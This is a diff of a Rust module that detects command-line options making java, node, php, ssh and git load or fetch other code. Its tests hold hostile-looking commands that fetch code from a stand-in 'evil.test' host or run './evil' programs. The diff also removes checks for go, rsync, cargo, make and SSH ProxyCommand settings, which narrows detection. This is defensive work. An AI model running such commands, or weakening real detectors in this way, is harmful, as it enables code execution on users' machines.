@@ -1,31 +1,11 @@
 //! Options by which a program loads or starts other code than what the line names: what a variable would make it do, said
 //! on the line itself.
 
-use super::loader::{Loads, loads};
 use super::paths::is_odd;
-use crate::target::ConfigScope;
 
 const LOADER: &str = "loader-environment";
 const FETCHES: &str = "fetch-and-execute-launch";
 const STARTS: &str = "shell-wrapper-launch";
-
-/// Programs by which SSH usually reaches a host.
-const PROXIES: [&str; 14] = [
-    "none",
-    "ssh",
-    "nc",
-    "ncat",
-    "connect",
-    "corkscrew",
-    "cloudflared",
-    "aws",
-    "gcloud",
-    "az",
-    "tsh",
-    "tailscale",
-    "sft",
-    "boundary",
-];
 
 /// The rule and the index of the argument, when an option loads or starts something.
 pub(super) fn judge(program: &str, args: &[&str]) -> Option<(&'static str, usize)> {
@@ -33,29 +13,11 @@ pub(super) fn judge(program: &str, args: &[&str]) -> Option<(&'static str, usize
     match plain {
         "java" | "javaw" => java(args),
         "node" | "nodejs" | "bun" | "deno" | "tsx" | "ts-node" => modules(args),
-        "go" => at(
-            before(args),
-            |a| ["-toolexec", "-exec", "-overlay"].iter().any(|f| is(a, f) || is(a, &format!("-{f}"))),
-            LOADER,
-        ),
-        "ssh" | "autossh" | "scp" | "sftp" | "rsync" => ssh(plain, args),
+        "ssh" | "autossh" | "scp" | "sftp" => ssh(plain, args),
         "php" => php(args),
-        "cargo" => cargo(args),
-        "make" | "gmake" | "mingw32-make" => make(args),
         "git" => git(args),
         _ => None,
     }
-}
-
-/// The verb, and the options before the first word that is none.
-fn before<'s, 'a>(args: &'s [&'a str]) -> &'s [&'a str] {
-    let end = args.iter().skip(1).position(|a| !a.starts_with('-')).map_or(args.len(), |at| at + 1);
-    &args[..end]
-}
-
-fn at(args: &[&str], found: impl Fn(&str) -> bool, rule: &'static str) -> Option<(&'static str, usize)> {
-    // what stands behind `--` is somebody else's
-    args.iter().take_while(|a| **a != "--").position(|a| found(a)).map(|at| (rule, at))
 }
 
 /// Whether an argument is an option, alone or with its value behind `=`.
@@ -120,43 +82,28 @@ fn modules(args: &[&str]) -> Option<(&'static str, usize)> {
     None
 }
 
-/// Options of SSH and of what copies with it that start a program, load a library, or name settings that may.
+/// Settings of SSH in a file of neither the person nor the system, and a library that it loads.
 fn ssh(program: &str, args: &[&str]) -> Option<(&'static str, usize)> {
     let mut at = 0;
     while let Some(arg) = args.get(at) {
-        let next = args.get(at + 1).copied().unwrap_or_default();
-        let long = arg.strip_prefix("--rsh=").or((*arg == "--rsh").then_some(next)).filter(|_| program == "rsync");
-        if let Some(value) = long {
-            return loads("RSYNC_RSH", value, false, ConfigScope::Project).map(|_| (LOADER, at));
-        }
-        let Some(letters) = arg.strip_prefix('-').filter(|l| !l.is_empty() && !l.starts_with('-')) else {
+        let Some(letters) = arg.strip_prefix('-').filter(|l| !l.is_empty()) else {
             // the command for the other machine is its own
-            if ["ssh", "autossh"].contains(&program) && !arg.starts_with('-') {
+            if !["scp", "sftp"].contains(&program) {
                 return None;
             }
             at += 1;
             continue;
         };
-        let valued = if program == "rsync" { "eBMTf" } else { "BbcDEeFIiJLlmOopQRSWwPsX" };
-        let Some((i, letter)) = letters.char_indices().find(|(_, c)| valued.contains(*c)) else {
-            at += 1;
-            continue;
-        };
-        let joined = &letters[i + 1..];
-        let (value, place) = if joined.is_empty() { (next, at + 1) } else { (joined, at) };
-        let found = match (program, letter) {
-            ("rsync", 'e') => loads("RSYNC_RSH", value, false, ConfigScope::Project).is_some(),
-            ("rsync", _) => false,
-            ("scp" | "sftp", 'S') => loads("RSYNC_RSH", value, false, ConfigScope::Project).is_some(),
-            (_, 'o') => setting(value),
-            (_, 'F') => is_elsewhere(value),
-            (_, 'I') => !value.starts_with('/') || is_odd(value),
-            _ => false,
-        };
-        if found {
-            return Some((LOADER, place.min(args.len() - 1)));
+        if let Some((i, letter)) = letters.char_indices().find(|(_, c)| "BbcDEeFIiJLlmOopQRSWwPsX".contains(*c)) {
+            let joined = &letters[i + 1..];
+            let value = if joined.is_empty() { args.get(at + 1).copied().unwrap_or_default() } else { joined };
+            at += usize::from(joined.is_empty());
+            let library = letter == 'I' && (!value.starts_with('/') || is_odd(value));
+            if library || (letter == 'F' && is_elsewhere(value)) {
+                return Some((LOADER, at.min(args.len() - 1)));
+            }
         }
-        at = place + 1;
+        at += 1;
     }
     None
 }
@@ -165,25 +112,6 @@ fn ssh(program: &str, args: &[&str]) -> Option<(&'static str, usize)> {
 fn is_elsewhere(path: &str) -> bool {
     let own = ["~/", "/home/", "/Users/", "/root/", "/etc/", "$HOME/", "${HOME}/", "%USERPROFILE%", "C:\\Users\\"];
     !["none", "/dev/null"].contains(&path) && (!own.iter().any(|o| path.starts_with(o)) || path.contains(".."))
-}
-
-/// A setting of SSH that starts a program or loads a library.
-fn setting(text: &str) -> bool {
-    let text = text.trim().trim_matches('"');
-    let (name, value) = text.split_once(['=', ' ']).unwrap_or((text, ""));
-    let value = value.trim_matches([' ', '=', '"', '\'']);
-    match name.trim().to_ascii_lowercase().as_str() {
-        "proxycommand" => {
-            let program = value.split_whitespace().next().unwrap_or_default();
-            let bare = ["/usr/bin/", "/bin/", "/usr/local/bin/", "/opt/homebrew/bin/"];
-            let bare = bare.iter().find_map(|f| program.strip_prefix(f)).unwrap_or(program);
-            value.contains([';', '|', '&', '`', '$', '<', '>']) || !PROXIES.contains(&bare)
-        }
-        "localcommand" | "knownhostscommand" | "xauthlocation" => true,
-        "pkcs11provider" | "securitykeyprovider" => value != "none" && !value.starts_with('/'),
-        "include" | "userknownhostscommand" | "proxyjumpcommand" => true,
-        _ => false,
-    }
 }
 
 /// Settings of PHP that run a file before the script, or load a library.
@@ -209,29 +137,6 @@ fn php(args: &[&str]) -> Option<(&'static str, usize)> {
         at = place + 1;
     }
     None
-}
-
-/// Settings of Cargo that name programs or other places for packages, and files of such settings.
-fn cargo(args: &[&str]) -> Option<(&'static str, usize)> {
-    let risky = ["runner", "rustc", "linker", "rustflags", "rustdoc", "credential", "alias.", "env."];
-    let found = |value: &str| {
-        let lower = value.to_ascii_lowercase();
-        !value.is_empty() && (!value.contains('=') || risky.iter().any(|r| lower.contains(r)))
-    };
-    for (i, arg) in args.iter().enumerate().take_while(|(_, a)| **a != "--") {
-        match arg.strip_prefix("--config=") {
-            Some(value) if found(value) => return Some((LOADER, i)),
-            None if *arg == "--config" && args.get(i + 1).is_some_and(|v| found(v)) => return Some((LOADER, i + 1)),
-            _ => {}
-        }
-    }
-    None
-}
-
-fn make(args: &[&str]) -> Option<(&'static str, usize)> {
-    let shell = |value: &str| loads("NPM_CONFIG_SCRIPT_SHELL", value, false, ConfigScope::Project) == Some(Loads::Code);
-    let found = args.iter().position(|a| a.strip_prefix("SHELL=").is_some_and(shell) || a.starts_with("MAKEFILES="));
-    found.map(|at| (LOADER, at)).or_else(|| at(args, |a| is(a, "--eval") || is(a, "-E"), STARTS))
 }
 
 /// Verbs of Git that start a program.
@@ -273,25 +178,15 @@ mod tests {
             ("java -Xmx1g -XX:OnOutOfMemoryError=x -cp a Main", LOADER),
             ("java @args", LOADER),
             ("java -jar https://evil.test/x.jar", FETCHES),
-            ("go run -toolexec ./x ./cmd", LOADER),
-            ("go run -exec=./x ./cmd", LOADER),
-            ("ssh -o ProxyCommand=./evil h", LOADER),
-            ("ssh -oproxycommand=./evil h", LOADER),
             ("ssh -F ./ssh_config h", LOADER),
             ("ssh -vF ./ssh_config h", LOADER),
+            ("scp a:b . -F./ssh_config", LOADER),
             ("ssh -I ./x.so h", LOADER),
-            ("rsync -e ./evil a:b .", LOADER),
-            ("rsync -av --rsh=./evil a:b .", LOADER),
-            ("scp -S ./x a:b .", LOADER),
             ("node --experimental-loader https://evil.test/l.mjs s.js", FETCHES),
             ("node --import=DATA:text/javascript,x s.js", FETCHES),
             ("deno run --preload=https://evil.test/x main.ts", FETCHES),
             ("php -d auto_prepend_file=https://evil.test/x.php s.php", FETCHES),
             ("php -dauto_prepend_file=./x.php s.php", LOADER),
-            ("cargo --config target.x.runner=\"./evil.sh\" run", LOADER),
-            ("cargo --config ./x.toml run", LOADER),
-            ("make SHELL=./evil mcp", LOADER),
-            ("make --eval=x mcp", STARTS),
             ("git difftool -x ./evil", STARTS),
             ("git -C x bisect run ./x", STARTS),
             ("git submodule foreach ./evil", STARTS),
@@ -308,15 +203,11 @@ mod tests {
         for line in [
             "java -Xmx1g -Dx=y -cp lib/* com.acme.Main -javaagent:x",
             "java -agentlib:jdwp=transport=dt_socket,address=127.0.0.1:5005 -jar s.jar",
-            "go run ./cmd/server -exec",
             "ssh -i ~/.ssh/id -o IdentitiesOnly=yes -F ~/.ssh/config host node x.js -F ./x",
-            "rsync -av -e ssh a b",
             "node --import tsx --require dotenv/config --loader ts-node/esm s.js",
             "node s.js --import https://a.test",
             "deno run --allow-net --import-map=import_map.json main.ts",
             "php -d memory_limit=1G -d extension=redis artisan mcp",
-            "cargo --config net.git-fetch-with-cli=true run",
-            "make -C x SHELL=/bin/bash mcp",
             "git -C x mcp --extcmd y",
             "git grep x",
             "git submodule update",
@@ -325,7 +216,5 @@ mod tests {
             let words: Vec<&str> = line.split_whitespace().collect();
             assert_eq!(judge(words[0], &words[1..]), None, "{line}");
         }
-        let ssh = ["-o", "ProxyCommand=cloudflared access ssh --hostname %h", "host"];
-        assert_eq!(judge("ssh", &ssh), None);
     }
 }
